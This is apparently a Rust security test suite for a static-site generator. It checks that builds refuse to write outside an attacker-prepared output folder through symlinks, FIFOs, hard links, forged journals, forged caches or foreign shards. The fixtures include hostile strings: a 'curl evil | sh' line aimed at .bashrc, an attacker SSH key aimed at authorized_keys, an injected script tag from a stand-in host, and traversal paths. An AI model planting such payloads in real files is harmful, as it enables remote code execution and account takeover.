//! Output folders prepared by an attacker, in a clone or an upload to a build service. Nothing outside the folder may be
//! created, replaced, emptied or removed, nothing may block, and the message names the file, the reason and the fix.
#![cfg(unix)]

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::harness::{Ran, Site, bounded, command, ran};

const PROGRAM: &str = "title: Wave\nunits: kg\ndays: [{name: A, top: {squat: 5x3 @ 80 kg}}]\n";

/// The targets of the attacks.
fn victims() -> BTreeMap<String, String> {
    let victims = [("home/.bashrc", "precious\n"), ("home/.ssh/id", "precious key\n")];
    victims.map(|(path, text)| (path.to_owned(), text.to_owned())).into()
}

/// A site in `site/` next to the home folder of the person who builds it, with an output folder prepared by an attacker.
struct Prepared(Site);

impl Prepared {
    fn new() -> Self {
        let site = Site::new().file("site/content/programs/p.yaml", PROGRAM);
        for (path, text) in victims() {
            site.write(&path, text);
        }
        fs::create_dir_all(site.path().join("site/output/.liftpress/aside")).unwrap();
        Self(site)
    }

    fn own(&self, name: &str) -> std::path::PathBuf {
        self.0.path().join("site/output/.liftpress").join(name)
    }

    fn manifest(&self, files: &[&str]) {
        let manifest = json!({"format": 2, "digest": of_all(files), "files": files});
        fs::write(self.own("manifest.json"), manifest.to_string()).unwrap();
    }

    /// Writes a journal with valid digests.
    fn journal(&self, name: &str, files: &[&str], moves: &[Move<'_>]) {
        let digest = half(&blake3::hash(serde_json::to_string_pretty(moves).unwrap().as_bytes()));
        let journal = json!({"format": 4, "digest": digest, "next": of_all(files), "moves": moves});
        fs::write(self.own(name), journal.to_string()).unwrap();
    }

    fn aside(&self, payload: &str) {
        fs::write(self.own("aside/0"), payload).unwrap();
    }

    fn link(&self, to: &str, from: &str) {
        symlink(to, self.0.path().join("site/output").join(from)).unwrap();
    }

    fn fifo(&self, path: &str) {
        let path = self.0.path().join("site/output").join(path);
        assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
    }

    /// Builds within the time and memory for any input.
    fn build(&self) -> Ran {
        bounded(&self.0, &["build", "site", "-q"])
    }
}

/// Writes the fields in the order of the file.
#[derive(serde::Serialize)]
struct Move<'m> {
    file: &'m str,
    number: u64,
    #[serde(rename = "move")]
    kind: &'m str,
    #[serde(skip_serializing_if = "Option::is_none")]
    digest: Option<String>,
}

fn moved<'m>(file: &'m str, kind: &'m str, payload: Option<&str>) -> Move<'m> {
    let number = if kind == "stale" && payload.is_none() { 7 } else { 0 };
    Move { file, number, kind, digest: payload.map(|text| half(&blake3::hash(text.as_bytes()))) }
}

fn half(hash: &blake3::Hash) -> String {
    hash.to_hex()[..32].to_owned()
}

fn of_all(files: &[&str]) -> String {
    let mut hasher = blake3::Hasher::new();
    for file in files {
        hasher.update(&(file.len() as u64).to_le_bytes()).update(file.as_bytes());
    }
    half(&hasher.finalize())
}

/// Builds into a prepared folder; the build must report that and leave the targets alone.
fn refused(prepare: impl FnOnce(&Prepared), says: &str) {
    let prepared = Prepared::new();
    prepare(&prepared);
    let built = prepared.build();
    assert_eq!((built.code, built.stderr.as_str()), (Some(1), format!("error: {says}\n").as_str()));
    untouched(&prepared);
}

fn untouched(prepared: &Prepared) {
    let found = prepared.0.files("home").into_iter().map(|(path, text)| (format!("home/{path}"), text));
    assert_eq!(found.collect::<BTreeMap<_, _>>(), victims());
}

const REMOVE: &str = "was not made by liftpress, so nothing was written; remove it, or choose another folder with -o";

fn foreign(path: &str, found: &str) -> String {
    format!("`site/output/{path}` is {found} and {REMOVE}")
}

fn damaged(name: &str, reason: &str) -> String {
    format!(
        "`site/output/.liftpress/{name}` is damaged: {reason}; if none of the files in the output folder are yours, delete the whole folder"
    )
}

#[test]
fn a_journal_creates_no_file_outside_the_output() {
    let payload = "ssh-rsa ATTACKER\n";
    refused(
        |at| {
            at.aside(payload);
            at.link("../../home/.ssh", "site");
            at.manifest(&["site/authorized_keys"]);
            at.journal(
                "journal.json",
                &["site/authorized_keys"],
                &[moved("site/authorized_keys", "new", Some(payload))],
            );
        },
        &format!(
            "the last build of `site/output` is not complete ({}); fix this, then run liftpress again",
            foreign("site", "a link")
        ),
    );
}

#[test]
fn a_journal_replaces_no_file_outside_the_output() {
    let payload = "curl evil | sh\n";
    for (file, says) in [
        ("site/.bashrc", damaged("manifest.json", "it lists `site/.bashrc`, which no build writes")),
        (
            "site/bashrc",
            format!(
                "the last build of `site/output` is not complete ({}); fix this, then run liftpress again",
                foreign("site", "a link")
            ),
        ),
    ] {
        refused(
            |at| {
                at.aside(payload);
                at.link("../../home", "site");
                at.manifest(&[file]);
                at.journal("journal.json", &[file], &[moved(file, "renewed", Some(payload))]);
            },
            &says,
        );
    }
}

#[test]
fn journals_move_only_what_a_build_would_move() {
    let stale = moved("site/id", "stale", None);
    refused(
        |at| {
            at.link("../../home/.ssh", "site");
            at.manifest(&["site/id"]);
            at.journal("journal.json", &["site/id"], &[stale]);
        },
        &damaged("journal.json", "no build writes its entry for `site/id`"),
    );
    let payload = "precious key\n";
    for (file, kind) in [("site/id", "new"), ("site/authorized_keys", "stale")] {
        refused(
            |at| {
                at.aside(payload);
                at.link("../../home/.ssh", "site");
                at.manifest(&[]);
                let one = moved(file, kind, Some(payload).filter(|_| kind == "new"));
                at.journal("rollback.json", &[], &[Move { number: 0, ..one }]);
            },
            &damaged("rollback.json", &format!("no build writes its entry for `{file}`")),
        );
    }
    for file in
        ["../../home/.bashrc", "/etc/passwd", ".liftpress/lock", "mine.txt", "site/.git/config", "site/a\u{1b}[2J"]
    {
        let named = format!("it lists `{}`, which no build writes", file.escape_debug());
        refused(|at| at.manifest(&[file]), &damaged("manifest.json", &named));
        refused(
            |at| {
                at.manifest(&[]);
                at.journal("journal.json", &[], &[moved(file, "stale", None)]);
            },
            &damaged("journal.json", &named),
        );
    }
    for (first, second) in [(("site/a", 0), ("site/a", 1)), (("site/a", 0), ("site/b", 0))] {
        let one = |(file, number)| Move { number, ..moved(file, "new", Some("x")) };
        refused(
            |at| {
                at.manifest(&["site/a", "site/b"]);
                at.journal("journal.json", &["site/a", "site/b"], &[one(first), one(second)]);
            },
            &damaged("journal.json", &format!("no build writes its entry for `{}`", second.0)),
        );
    }
}

#[test]
fn links_within_the_state_folder_are_not_followed() {
    for name in ["lock", "partial", "cache", "manifest.json", "manifest.next.json", "journal.json", "rollback.json"] {
        for to in ["../../../home/.bashrc", "/dev/zero", "nowhere"] {
            refused(
                |at| {
                    at.manifest(&[]);
                    let _ = fs::remove_file(at.own(name));
                    at.link(to, &format!(".liftpress/{name}"));
                },
                &foreign(&format!(".liftpress/{name}"), "a link"),
            );
        }
    }
    refused(
        |at| {
            at.manifest(&[]);
            fs::remove_dir(at.own("aside")).unwrap();
            at.link("../../../home/.ssh", ".liftpress/aside");
        },
        &foreign(".liftpress/aside", "a link"),
    );
    refused(
        |at| {
            fs::remove_dir_all(at.own("")).unwrap();
            at.link("../../home", ".liftpress");
        },
        &foreign(".liftpress", "a link"),
    );
}

#[test]
fn pipes_and_folders_in_the_state_folder_do_not_block() {
    for name in ["lock", "partial", "cache", "manifest.json", "journal.json", "rollback.json"] {
        let path = format!(".liftpress/{name}");
        refused(|at| at.fifo(&path), &foreign(&path, "neither a file nor a folder"));
        refused(|at| fs::create_dir(at.own(name)).unwrap(), &foreign(&path, "a folder"));
    }
    refused(
        |at| {
            fs::remove_dir(at.own("aside")).unwrap();
            at.fifo(".liftpress/aside");
        },
        &foreign(".liftpress/aside", "neither a file nor a folder"),
    );
}

#[test]
fn hard_links_among_temporary_files_harm_no_other_file() {
    let prepared = Prepared::new();
    prepared.manifest(&[]);
    for (name, victim) in [("partial", "home/.bashrc"), ("lock", "home/.ssh/id"), ("aside/0", "home/.bashrc")] {
        fs::hard_link(prepared.0.path().join(victim), prepared.own(name)).unwrap();
    }
    let built = prepared.build();
    assert_eq!((built.code, built.stderr.as_str()), (Some(0), ""));
    untouched(&prepared);
}

#[test]
fn an_oversized_manifest_is_not_read() {
    refused(
        |at| fs::File::create(at.own("manifest.json")).unwrap().set_len(1 << 40).unwrap(),
        &damaged("manifest.json", "it is larger than 64 MiB"),
    );
}

#[test]
fn a_linked_output_folder_must_be_named() {
    let linked = |link: &str, output: &str| {
        format!(
            "`site/{link}` is a link, so nothing was written; if the link is yours, build with `-o site/{output}`; otherwise remove it"
        )
    };
    let prepare = |at: &Prepared, link: &str| {
        fs::remove_dir_all(at.0.path().join("site/output")).unwrap();
        symlink("../other", at.0.path().join("site").join(link)).unwrap();
        fs::create_dir_all(at.0.path().join("other/.liftpress")).unwrap();
    };
    refused(|at| prepare(at, "output"), &linked("output", "output"));
    let prepared = Prepared::new();
    prepare(&prepared, "shards");
    let built = bounded(&prepared.0, &["build", "site", "-q", "--shard", "1/2"]);
    assert_eq!((built.code, built.stderr), (Some(1), format!("error: {}\n", linked("shards", "shards/1-of-2"))));
    assert_eq!(fs::read_dir(prepared.0.path().join("other")).unwrap().count(), 1);
    // Naming the link on the command line is consent.
    symlink("../other", prepared.0.path().join("site/output")).unwrap();
    prepared.0.fine(&["build", "site", "-q", "-o", "site/output"]);
    assert!(prepared.0.path().join("other/site/index.html").is_file());
    // A folder that is no link is built into, whatever is next to it.
    let prepared = Prepared::new();
    prepared.manifest(&[]);
    assert_eq!(prepared.build().code, Some(0));
}

/// A link in place of a page is removed, and its target stays.
#[test]
fn links_and_pipes_in_place_of_pages_are_replaced() {
    let prepared = Prepared::new();
    fs::create_dir(prepared.0.path().join("site/output/site")).unwrap();
    prepared.manifest(&["site/index.html", "site/robots.txt", "site/search/index.html"]);
    prepared.fifo("site/index.html");
    prepared.link("../../../home/.bashrc", "site/robots.txt");
    let built = prepared.build();
    assert_eq!((built.code, built.stderr.as_str()), (Some(0), ""));
    assert!(prepared.0.read("site/output/site/index.html").contains("Wave"));
    assert!(!prepared.0.path().join("site/output/site/robots.txt").is_symlink());
    untouched(&prepared);
}

/// A changed page with a cache that lists it as ours: all digests fit except the one that needs the builder's key.
#[test]
fn a_forged_cache_is_not_used() {
    let prepared = Prepared::new();
    prepared.manifest(&[]);
    prepared.0.fine(&["build", "site", "-q"]);
    let page = prepared.0.path().join("site/output/site/index.html");
    let clean = fs::read_to_string(&page).unwrap();
    let forged = clean.replace("</body>", "<script src=//evil></script></body>");
    assert_ne!(forged, clean);
    let text = fs::read_to_string(prepared.own("cache")).unwrap();
    let (head, body) = text.split_once('\n').unwrap();
    let forge = |body: &str| {
        let digest = |text: &str| half(&blake3::hash(text.as_bytes()));
        let mut body: Value = serde_json::from_str(body).unwrap();
        let record = &mut body[1]["files"]["site/index.html"];
        record["digest"] = json!(digest(&forged));
        record["size"] = json!(forged.len());
        body.to_string()
    };
    let unkeyed = |body: &str| format!("liftpress cache 2 {}", blake3::hash(body.as_bytes()));
    for head in [
        head.to_owned(),
        unkeyed(&forge(body)),
        format!("liftpress cache 1 {}", half(&blake3::hash(forge(body).as_bytes()))),
    ] {
        fs::write(&page, &forged).unwrap();
        fs::write(prepared.own("cache"), format!("{head}\n{}", forge(body))).unwrap();
        prepared.0.fine(&["build", "site", "-q"]);
        assert_eq!(fs::read_to_string(&page).unwrap(), clean, "{head}");
    }
}

/// A key that comes with the site may be an attacker's.
#[test]
fn a_cache_key_within_the_site_is_not_used() {
    let prepared = Prepared::new();
    prepared.manifest(&[]);
    let build = |state: &Path, key: Option<&str>| {
        let mut build = command(&["build", "site", "-q"]);
        build.env("XDG_STATE_HOME", state).env("LIFTPRESS_KEY", key.unwrap_or_default());
        ran(&build.current_dir(prepared.0.path()).output().unwrap())
    };
    let root = prepared.0.path().canonicalize().unwrap();
    let cache = || fs::read(prepared.own("cache")).ok();
    assert_eq!(build(&root.join("site/.state"), None).code, Some(0));
    assert_eq!(cache(), None);
    assert_eq!(build(&root.join("state"), None).code, Some(0));
    let by_file = cache().unwrap();
    assert_eq!(fs::read(root.join("state/liftpress/key")).unwrap().len(), 32);
    let key = "0123456789abcdef0123456789abcdef";
    assert_eq!(build(&root.join("site/.state"), Some(key)).code, Some(0));
    assert_ne!(cache().unwrap(), by_file);
    let built = build(&root.join("state"), Some("secret"));
    let says = "error: `LIFTPRESS_KEY` has fewer than 32 characters; create a key with `openssl rand -hex 32`\n";
    assert_eq!((built.code, built.stderr.as_str()), (Some(1), says));
}

#[test]
fn foreign_shards_are_not_used() {
    let site = Site::new().file("content/programs/p.yaml", PROGRAM);
    let run = |args: &[&str], key: &str| {
        let mut command = command(args);
        ran(&command.env("LIFTPRESS_KEY", key).current_dir(site.path()).output().unwrap())
    };
    let [ours, theirs] = ["a".repeat(32), "b".repeat(32)];
    assert_eq!(run(&["build", "-q", "-o", "clean"], &ours).code, Some(0));
    assert_eq!(run(&["build", "-q", "--shard", "1/1"], &theirs).code, Some(0));
    site.write("shards/1-of-1/site/index.html", "<script src=//evil></script>");
    // The folder is theirs, so they can mark it as their own.
    assert_eq!(run(&["build", "-q", "--shard", "1/1"], &theirs).code, Some(0));
    let merged = run(&["merge", "shards/1-of-1"], &ours);
    let says = "ignored 1 shard built with another key: set the same LIFTPRESS_KEY on every machine\n";
    assert!(merged.code == Some(0) && merged.stderr.contains(says), "{}", merged.stderr);
    assert_eq!(site.files("output"), site.files("clean"));
    fs::remove_dir_all(site.path().join("output")).unwrap();
    let merged = run(&["merge", "shards/1-of-1"], &theirs);
    assert!(merged.code == Some(0) && !merged.stderr.contains("another key"), "{}", merged.stderr);
    assert_eq!(site.files("output"), site.files("clean"));
}

#[test]
fn content_and_templates_that_lead_out_of_the_site_are_not_read() {
    for name in ["content", "templates"] {
        let site = Site::new().file("site/real/programs/p.yaml", PROGRAM).file("else/programs/secret.yaml", PROGRAM);
        let link = |to: &str, name: &str| symlink(to, site.path().join("site").join(name)).unwrap();
        link("../else", name);
        if name == "templates" {
            link("real", "content");
        }
        let target = site.path().join("else").canonicalize().unwrap();
        let says = format!(
            "`site/{name}` is a link that leads out of the site, to `{}`, so liftpress does not read it; replace the link with the folder itself, or name the folder that it leads to as the site",
            target.display()
        );
        let checks: [&[&str]; 8] = [
            &["build", "site", "-q"],
            &["build", "site", "-q", "-o", "out"],
            &["check", "site"],
            &["list", "site"],
            &["show", "secret", "-C", "site"],
            &["new", "program", "Bench", "-C", "site"],
            &["serve", "site", "--port", "0"],
            &["init", "site"],
        ];
        for args in checks {
            let ran = site.run(args);
            assert!(ran.code == Some(2) && ran.stderr.contains(&says), "{args:?}: {}", ran.stderr);
        }
        assert!(!site.path().join("site/output").exists() && !site.path().join("out").exists());
    }
    // Within the site, a link works like the folder.
    let site = Site::new().file("site/real/programs/p.yaml", PROGRAM);
    symlink("real", site.path().join("site/content")).unwrap();
    site.fine(&["build", "site", "-q"]);
}
